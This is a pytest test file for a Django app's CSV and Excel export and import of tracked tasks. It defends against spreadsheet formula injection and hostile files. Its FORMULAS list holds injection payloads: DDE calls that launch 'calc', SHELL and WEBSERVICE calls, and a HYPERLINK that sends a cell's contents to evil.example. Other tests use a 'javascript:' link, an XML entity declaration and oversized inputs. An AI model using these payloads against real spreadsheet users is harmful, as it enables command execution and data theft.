"""The table that people have: out as it stands, in again without loss, by halves never, and nothing in it runs."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from concurrent.futures import ThreadPoolExecutor
from datetime import date, timedelta

import openpyxl
import pytest
import xlsxwriter
from django.db import connection, transaction
from django.utils.translation import override
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mandates.actions import Refused, evidence, status
from mandates.models import StatusUpdate, Task, states
from mandates.models.words import plain
from reports.tables import preview as previews
from reports.tables import read, write
from reports.tables.columns import BY_KEY, COLUMNS
from tests.factories import (
    NOON,
    HoldingFactory,
    InstructionFactory,
    MemberFactory,
    ParagraphFactory,
    SessionFactory,
    TaskFactory,
    UnitFactory,
)

pytestmark = pytest.mark.django_db
LATER = NOON + timedelta(hours=1)
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")", "'=1+1", "''=1", "＝1+1",
    "=IMPORTXML(CONCAT(\"http://x\",A1))", "-", "=",
    "%0A=1+1", ";=1+1", ",=1+1", "\"=1+1", "=1+1\n=2", "{=1+1}", "_x0041_", "_x005F_x0041_", "_x000D_",
    "ax005F_b", "'tis",
    "=WEBSERVICE(\"http://x\"&A1)", "=SHELL(\"calc\")", "=INFO(\"system\")", "\n=1+1", "\u00a0=1+1", "=-1+1",
    "=DDE(\"cmd\",\"/C calc\",\"x\")", "@", "+", "1e5", "00012", "TRUE", "2027-02-12", "١٢٣", "a\u2028b", "‮abc", "🏳️‍🌈",
]  # fmt: skip


def as_csv(by) -> bytes:
    return b"".join(write.csv_lines(tasks=Task.objects.order_by("pk"), by=by))


def as_xlsx(by) -> bytes:
    with write.xlsx_file(tasks=Task.objects.order_by("pk"), by=by) as file:
        return file.read()


BOTH = pytest.mark.parametrize("export", [as_csv, as_xlsx], ids=["csv", "xlsx"])


def table(*rows: dict[str, object]) -> read.Table:
    """A table as a person edits it, from cells by key."""
    return read.Table(tuple((number, {k: str(v) for k, v in row.items()}) for number, row in enumerate(rows, start=2)))


def look(rows: read.Table, by) -> previews.Preview:
    return previews.preview(table=rows, by=by, at=LATER)


def take(rows: read.Table, by) -> previews.Preview:
    return previews.apply(table=rows, by=by, at=LATER, token="form-1")


def problems(preview: previews.Preview) -> list[str]:
    return [problem for row in preview.rows for problem in row.problems]


# ── Round trip ───────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture
def full(li_na):
    """A task with something in every cell."""
    paragraph = ParagraphFactory()
    instruction = InstructionFactory(resolution=paragraph.version.resolution)
    instruction.places.create(paragraph=paragraph)
    task = TaskFactory(instruction=instruction, session=SessionFactory(body__governs=False), occurrence="CSTD-30")
    links = [evidence.Given(link="https://example.org/a?x=1"), evidence.Given(link="C26/59")]
    status.update(
        task=task, to="prog", words="Outline agreed.\nTwo lines.", by=li_na, at=NOON, seen=1, evidence=links,
        waiting_for="BDT", delivered_on=date(2026, 11, 3),
    )  # fmt: skip
    return task


@BOTH
def test_what_was_exported_comes_back_cell_by_cell_and_changes_nothing(export, full, li_na):
    rows = read.read(data=export(li_na))

    [(number, cells)] = rows.rows
    assert (number, rows.unread) == (2, ())
    assert cells == {
        "task": str(full.pk),
        "revision": "2",
        "resolution": "Council Resolution 1332",
        "address": "instructs the Secretary-General/1",
        "title": "Report on the outcomes achieved",
        "lead": "SPM",
        "session": "CSTD-30",
        "due": "2027-02-12",
        "status": "In progress",
        "words": "Outline agreed.\nTwo lines.",
        "delivered": "2026-11-03",
        "evidence": "https://example.org/a?x=1\nC26/59",
        "waiting": "BDT",
    }
    preview = look(rows, li_na)
    assert (preview.changes, preview.problems, preview.unchanged) == ((), (), 1)


@BOTH
@pytest.mark.parametrize("words", FORMULAS)
def test_no_word_is_lost_and_none_is_a_formula(words, export, li_na):
    task = TaskFactory(instruction=InstructionFactory(title=plain(words)))
    status.update(task=task, to="prog", words=words, by=li_na, at=NOON, seen=1, waiting_for=words)

    rows = read.read(data=export(li_na))

    assert rows.rows[0][1]["words"] == plain(words)
    assert rows.rows[0][1]["waiting"] == plain(words)
    preview = look(rows, li_na)
    assert (preview.changes, problems(preview)) == ((), [])


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(words=st.text(max_size=60), title=st.text(min_size=1, max_size=60), waiting=st.text(max_size=60))
def test_any_words_come_back_as_they_were(words, title, waiting, li_na):
    task = TaskFactory(instruction=InstructionFactory(title=plain(title)))
    said = plain(words) or "x"
    status.update(task=task, to="risk", words=said, by=li_na, at=NOON, seen=1, waiting_for=waiting)
    for export in (as_csv, as_xlsx):
        preview = look(read.read(data=export(li_na)), li_na)
        assert (preview.changes, problems(preview)) == ((), [])
    Task.objects.all().delete()


def test_no_cell_of_a_csv_file_begins_as_a_formula(li_na):
    for words in FORMULAS:
        task = TaskFactory()
        status.update(task=task, to="prog", words=words, by=li_na, at=NOON, seen=1, waiting_for=words)
    rows = list(csv.reader(io.StringIO(as_csv(li_na).decode("utf-8-sig"), newline="")))
    assert len(rows) == len(FORMULAS) + 1
    assert [cell for row in rows for cell in row if re.match(r"[=+\-@\t\r\n＝＋－＠]", cell)] == []


def test_no_cell_of_an_excel_file_is_a_formula_or_a_link(li_na):
    for words in FORMULAS:
        status.update(task=TaskFactory(), to="prog", words=words, by=li_na, at=NOON, seen=1)
    with zipfile.ZipFile(io.BytesIO(as_xlsx(li_na))) as package:
        sheets = [package.read(name) for name in package.namelist() if name.startswith("xl/worksheets/")]
    assert all(b"<f>" not in sheet and b"<f " not in sheet and b"<hyperlink" not in sheet for sheet in sheets)


@BOTH
def test_a_table_in_another_language_comes_back_too(export, full, li_na):
    with override("fr"):
        data = export(li_na)
    assert look(read.read(data=data), li_na).unchanged == 1


def test_the_template_is_an_empty_table_that_says_how_to_fill_it():
    with write.template() as file:
        data = file.read()
    assert read.read(data=data).rows == ()
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert [cell.value for cell in book.worksheets[0][1]] == [str(column.heading) for column in COLUMNS]
    assert [row[0].value for row in book.worksheets[1].rows] == [str(column.heading) for column in COLUMNS]


def test_a_viewer_takes_public_evidence_with_them_and_no_other(full, li_na):
    evidence.show(evidence=full.evidence.get(link="C26/59"), public=True, by=li_na, at=NOON)
    viewer = MemberFactory(role="viewer")
    assert read.read(data=as_csv(viewer)).rows[0][1]["evidence"] == "C26/59"


def test_a_table_of_many_takes_as_many_questions_as_one_of_few(full, li_na, django_assert_num_queries):
    for count in (1, 20):
        for _each in range(count):
            TaskFactory(session=SessionFactory())
        with django_assert_num_queries(3):
            as_csv(li_na)


# ── What an import does ──────────────────────────────────────────────────────────────────────────────────────────


def test_a_preview_says_what_would_change_and_writes_nothing(full, li_na):
    rows = table(
        {"task": full.pk, "revision": 2, "status": "at RISK", "words": "Late.", "lead": "bdt", "due": "2027-03-01",
         "evidence": "C26/59\nC26/60", "waiting": ""},
    )  # fmt: skip
    UnitFactory(abbr="BDT")

    [row] = look(rows, li_na).rows

    assert row.problems == ()
    assert [(change.column, change.before, change.after) for change in row.changes] == [
        ("Status", "In progress", "at RISK"),
        ("In a sentence", "Outline agreed.\nTwo lines.", "Late."),
        ("Lead unit", "SPM", "bdt"),
        ("Due", "2027-02-12", "2027-03-01"),
        ("Evidence", "https://example.org/a?x=1\nC26/59", "C26/60"),
        ("Waiting for", "BDT", ""),
    ]
    assert (row.task.status, row.task.revision) == ("prog", 2)
    full.refresh_from_db()
    assert (full.status, full.revision, StatusUpdate.objects.count()) == ("prog", 2, 1)


def test_an_import_goes_through_the_same_doors_as_the_pages(full, li_na):
    bdt = UnitFactory(abbr="BDT")
    rows = table({"task": full.pk, "status": "risk", "words": "Late.", "lead": "BDT", "due": "2027-03-01",
                  "evidence": "C26/60"})  # fmt: skip

    take(rows, li_na)

    full.refresh_from_db()
    assert (full.status, full.lead, full.due_on, full.dated_by_hand) == ("risk", bdt, date(2027, 3, 1), True)
    assert (full.waiting_for, full.revision) == ("BDT", 5)
    assert [update.kind for update in full.updates.order_by("pk")] == ["said", "said", "reassigned", "redated"]
    moments = list(full.history.values_list("history_date", flat=True))
    assert len(set(moments)) == len(moments)  # history tells them apart
    assert full.evidence.count() == 3


def test_one_bad_row_and_nothing_is_taken(full, li_na):
    other = TaskFactory()
    rows = table(
        {"task": full.pk, "status": "At risk"}, {"task": other.pk, "status": "Finished"}, {"task": 10**6}, {"task": "x"}
    )
    with pytest.raises(previews.NotTaken) as caught:
        take(rows, li_na)
    assert [(row.number, row.problems) for row in caught.value.preview.problems] == [
        (3, ("“Finished” is no status.",)),
        (4, ("There is no task 1000000.",)),
        (5, ("There is no task x.",)),
    ]
    full.refresh_from_db()
    assert (full.status, full.revision) == ("prog", 2)


@pytest.mark.parametrize(
    ("cells", "problem"),
    [
        ({"due": "12/02/2027"}, "“12/02/2027” is no day: write it as 2027-02-12."),
        ({"due": "2027-02-30"}, "“2027-02-30” is no day: write it as 2027-02-12."),
        ({"lead": "XYZ"}, "There is no unit “XYZ”."),
        ({"title": "Another"}, "“Instruction” is not changed by a table; it says “Report on the outcomes achieved”."),
        ({"evidence": "javascript:alert(1)"},
         "A link begins with https:// or http://; a document number is written as it stands."),
        ({"status": "Done", "words": ""}, "Say in a sentence what was done."),
        ({"status": "No information"}, "Once somebody speaks there is information: choose where it stands."),
        ({"delivered": "2999-01-01"}, "The day of delivery lies in the future."),
        ({"revision": "x"}, "The revision is a number; leave it as it was."),
    ],
)  # fmt: skip
def test_each_row_says_what_stands_against_it(cells, problem, full, li_na):
    assert problems(look(table({"task": full.pk, **cells}), li_na)) == [problem]


def test_what_somebody_changed_since_is_shown_and_not_written_over(full, li_na, boris):
    rows = read.read(data=as_csv(li_na))
    status.update(task=full, to="risk", words="Late.", by=boris, at=NOON, seen=2)
    changed = table({**rows.rows[0][1], "words": "All well."})

    assert problems(look(changed, li_na)) == [
        "Somebody else has changed this task since.",
        "Boris Hahn, 24 November, 13:00: In progress → At risk. “Late.”",
    ]
    with pytest.raises(previews.NotTaken):
        take(changed, li_na)


def test_what_changed_between_preview_and_import_is_seen_even_without_revisions(full, li_na, boris):
    packed = previews.pack(preview=look(table({"task": full.pk, "words": "All well."}), li_na))
    status.confirm_unchanged(task=full, by=boris, at=NOON, seen=2)
    with pytest.raises(previews.NotTaken):
        take(previews.unpack(packed=packed), li_na)
    with pytest.raises(Refused, match="out of date"):
        previews.unpack(packed=packed[:-1] + ("A" if packed[-1] != "A" else "B"))


@pytest.mark.parametrize("to", Task.Status.values)
@pytest.mark.parametrize("before", Task.Status.values)
def test_an_import_follows_the_same_table_of_steps(before, to, li_na):
    task = TaskFactory(status=before)
    rows = table({"task": task.pk, "status": to, "words": "By table.", "evidence": "C26/59"})
    allowed = to in states.STEPS[before] or (before == to and before in states.OPEN)
    assert bool(look(rows, li_na).problems) is not allowed


def test_rights_are_those_of_the_page_row_by_row(mariam):
    HoldingFactory(member=mariam)
    own, foreign = TaskFactory(), TaskFactory(lead=UnitFactory(abbr="TSB"))
    preview = look(
        table({"task": own.pk, "status": "prog"}, {"task": foreign.pk, "status": "prog"}, {"task": own.pk, "due": ""}),
        mariam,
    )
    assert [row.task for row in preview.changes] == [own]
    assert problems(preview) == [
        "Only the units that lead this work or contribute to it and the coordinator say where it stands.",
        "The same task stands in row 2.",
    ]
    assert problems(look(table({"task": own.pk, "due": "2028-01-01"}), mariam)) == [
        f"{own}: Only the coordinator gives tasks another date."
    ]
    for role in ("viewer", "chair"):
        with pytest.raises(previews.PermissionDenied):
            look(table(), MemberFactory(role=role))


def test_a_row_of_today_s_table_finds_its_task_by_resolution_address_and_session(full, li_na):
    TaskFactory(instruction=full.instruction, occurrence="CSTD-31", session=SessionFactory(code="CSTD-31"))
    row = {"resolution": "council resolution 1332", "address": "instructs the Secretary-General/1", "words": "News."}

    [several] = look(table(row), li_na).rows
    [found] = look(table({**row, "session": "CSTD-30"}), li_na).rows
    [lost] = look(table({**row, "address": "resolves 99"}), li_na).rows

    assert several.problems == ("Several tasks stand there: give the number of one.",)
    assert (found.task, found.problems, [change.after for change in found.changes]) == (full, (), ["News."])
    assert lost.problems == ("No open task stands there. Give its number, or its resolution, address and session.",)


def test_the_same_form_twice_has_one_effect(full, li_na):
    rows = table({"task": full.pk, "words": "News."})
    assert len(take(rows, li_na).changes) == 1
    assert take(rows, li_na).rows == ()
    assert full.updates.count() == 2


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_the_same_form_sent_again_before_the_first_has_answered_is_told_what_the_first_did(full, li_na):
    """Row E5: it was told that somebody else had changed the task, who was the same person with the same form."""
    rows = table({"task": full.pk, "revision": full.revision, "words": "News."})
    with ThreadPoolExecutor(1) as other:
        with transaction.atomic():
            take(rows, li_na)
            again = other.submit(_take_and_close, rows, li_na)
            while not _somebody_waits() and not again.done():
                pass
        assert again.result().rows == ()
    assert full.updates.count() == 2


def _take_and_close(rows: read.Table, by) -> previews.Preview:
    try:
        return take(rows, by)
    finally:
        connection.close()


def _somebody_waits() -> bool:
    with connection.cursor() as cursor:
        cursor.execute("SELECT EXISTS (SELECT 1 FROM pg_locks WHERE NOT granted)")
        return bool(cursor.fetchone()[0])


def test_work_for_a_governing_body_is_only_submitted_by_a_table_too(li_na):
    task = TaskFactory(session=SessionFactory())
    take(table({"task": task.pk, "status": "Done", "words": "Sent.", "evidence": "C26/59"}), li_na)
    task.refresh_from_db()
    assert (task.status, task.to_approve) == ("prog", True)
    assert look(read.read(data=as_csv(li_na)), li_na).unchanged == 1
    assert problems(look(table({"task": task.pk, "words": "More."}), li_na)) == [
        "It waits for approval: say on its page what has happened."
    ]


# ── Files from anybody ───────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("mark", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_a_table_is_read_as_the_excel_of_any_country_writes_it(mark, encoding):
    text = f"Task{mark}In a sentence{mark}Notes\r\n7{mark}Café{mark}x\r\n{mark}{mark}\r\n"
    rows = read.read(data=text.encode(encoding))
    assert rows == read.Table(((2, {"task": "7", "words": "Café"}),), ("Notes",))


def book(fill) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as made:
        fill(made.add_worksheet(), made)
    return out.getvalue()


def test_an_excel_file_with_real_dates_numbers_and_formulas_is_read_as_it_looks():
    def fill(sheet, made):
        sheet.write_row(0, 0, ["Task", "Due", "In a sentence", "Waiting for"])
        sheet.write_number(3, 0, 12.0)
        sheet.write_datetime(3, 1, date(2027, 2, 12), made.add_format({"num_format": "d/m/yy"}))
        sheet.write_formula(3, 2, '="a"&"b"', None, "ab")
        sheet.write_boolean(3, 3, True)

    expected = {"task": "12", "due": "2027-02-12", "words": "ab", "waiting": "True"}
    assert read.read(data=book(fill)).rows == ((4, expected),)


def _patched(data: bytes, name: str, old: bytes, new: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for each in before.namelist():
            content = before.read(each)
            after.writestr(each, content.replace(old, new) if each == name else content)
    return out.getvalue()


HEAD = book(lambda sheet, _made: sheet.write_row(0, 0, ["Task", "In a sentence"]))
SHEET = "xl/worksheets/sheet1.xml"


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b" \n",
        b"no headings\nat all\n",
        b"Task,Task\n1,2\n",
        b"Resolution,Words\na,b\n",
        bytes(range(256)) * 4,
        b"PK\x03\x04 no zip at all",
        HEAD[:-40],
        _patched(HEAD, SHEET, b"<sheetData>", b'<!DOCTYPE a [<!ENTITY b "c">]><sheetData>'),
        _patched(HEAD, SHEET, b"<sheetData>", b"<sheetData><row>" * 300),
        _patched(HEAD, SHEET, b"</sheetData>", b" " * 45_000_000 + b"</sheetData>"),
        b"Task,In a sentence\n" + b"1,x\n" * 6000,
        b'Task,In a sentence\n1,"' + b"x" * 200_000 + b'"\n',
        b"Task\n" * 1_500_000,
    ],
)  # fmt: skip
def test_what_is_no_table_or_too_much_of_one_is_turned_away_with_a_sentence(data):
    with pytest.raises(Refused) as why:
        read.read(data=data)
    assert str(why.value).endswith(".")


def test_a_sheet_that_claims_a_million_rows_costs_what_it_holds():
    data = _patched(HEAD, SHEET, b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
    assert read.read(data=data).rows == ()


def test_every_column_has_a_note_or_is_for_reading_only():
    assert all(column.note or column.fixed for column in BY_KEY.values())
